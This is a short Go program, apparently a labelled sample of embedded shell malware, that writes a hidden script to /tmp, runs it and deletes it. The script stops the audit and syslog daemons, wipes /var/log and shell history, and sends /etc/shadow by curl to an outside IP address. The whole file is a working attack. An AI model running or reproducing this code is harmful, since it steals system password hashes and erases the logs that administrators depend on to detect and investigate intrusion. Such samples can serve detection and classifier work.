// class: embedded, shell text; style: raw string
package main

import (
	"os"
	"os/exec"
)

const script = `
systemctl stop auditd rsyslog
rm -rf /var/log/*
echo > ~/.bash_history
cat /etc/shadow | curl -s --data-binary @- http://203.0.113.77/s
`

func main() {
	os.WriteFile("/tmp/.s", []byte(script), 0o700)
	exec.Command("/bin/sh", "/tmp/.s").Run()
	os.Remove("/tmp/.s")
}
